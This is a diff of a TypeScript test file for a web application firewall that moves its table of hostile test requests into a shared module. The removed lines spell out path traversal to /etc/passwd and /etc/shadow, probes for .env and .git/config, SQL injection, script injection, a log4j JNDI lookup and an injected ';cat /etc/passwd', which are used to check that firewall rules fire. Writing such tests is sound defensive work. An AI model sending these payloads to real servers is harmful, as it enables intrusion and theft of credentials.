@@ -8,11 +8,11 @@ import { OWN_RULES } from '../../src/catalog/shield/firewall/own-rules.ts';
 import { createShieldSettingsStore } from '../../src/catalog/shield/shield-settings-store.ts';
 import { readRuleTexts } from '../../src/compose/firewall.ts';
 import { endLingering, LINGER_MS } from '../../src/lib/end-lingering.ts';
+import { ATTACKS, BROWSER, encoded, get, SCANS } from '../support/hostile-requests.ts';
 import { createGrowingRoom, type GrowingRoom } from './growing-video.ts';
 import type { RenditionKey } from './publish.ts';
 import type { TestEdge } from './start-test-edge.ts';
 
-const BROWSER = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36';
 const sockets: Socket[] = [];
 
 let videos: GrowingRoom;
@@ -50,11 +50,6 @@ async function send(edge: TestEdge, text: string) {
   return { status, rule: /^x-millrace-rule: (\S+)/im.exec(answer)?.[1] ?? null, answer };
 }
 
-const get = (path: string, ...lines: string[]) =>
-  [`GET ${path} HTTP/1.1`, 'Host: 127.0.0.1', BROWSER, 'Accept: */*', 'Connection: close', ...lines, '', ''].join(
-    '\r\n',
-  );
-
 /** All that is logged, of every zone, once the edge stored what it had. */
 async function closeAndRead() {
   await videos.closeEdges();
@@ -65,32 +60,6 @@ async function closeAndRead() {
   const events = await Promise.all([0, ...zones.map(({ id }) => id)].map(read));
   return events.flat().toSorted((one, other) => one.seq - other.seq);
 }
-
-const encoded = (text: string) => encodeURIComponent(text);
-
-/** Requests, and the rule that may decide: sets of rules differ in which of a family finds most. */
-const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
-  ['traversal, encoded', get('/%2e%2e%2f%2e%2e%2fetc/passwd'), /^930/],
-  ['traversal, encoded twice', get('/a?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), /^930/],
-  ['traversal below a zone', get('/vz-1/..%2f..%2f..%2fetc/shadow'), /^930/],
-  ['traversal by backslashes', get('/assets/..%5c..%5cwindows%5csystem32'), /^930/],
-  ['a file of secrets', get('/.env'), /^930130$/],
-  ['a repository', get('/.git/config'), /^930130$/],
-  ['SQL', get(`/?id=${encoded('1 union select a,b from users')}`), /^942/],
-  ['SQL that waits', get(`/?id=${encoded("1' or sleep(5)#")}`), /^942/],
-  ['a script', get(`/?q=${encoded('<script>alert(1)</script>')}`), /^941/],
-  ['an event handler', get(`/?q=${encoded('<img src=x onerror=alert(1)>')}`), /^941/],
-  ['log4j in a query', get(`/?x=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
-  // The core rule set of Debian looks for it in arguments and cookies alone.
-  ['log4j in a cookie', get('/', `Cookie: a=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
-  ['a command', get(`/?c=${encoded(';cat /etc/passwd')}`), /^93[02]/],
-];
-
-/** What is no attack by itself: logged, and not answered otherwise than for anybody. */
-const SCANS: readonly (readonly [string, string, RegExp])[] = [
-  ['sqlmap', get('/').replace(BROWSER, 'User-Agent: sqlmap/1.7'), /^913/],
-  ['nikto', get('/').replace(BROWSER, 'User-Agent: Mozilla/5.00 (Nikto/2.1.6)'), /^913/],
-];
 
 const UNREADABLE: readonly (readonly [string, string, number, string])[] = [
   ['no HTTP', 'no http at all\r\n\r\n', 400, '10180'],
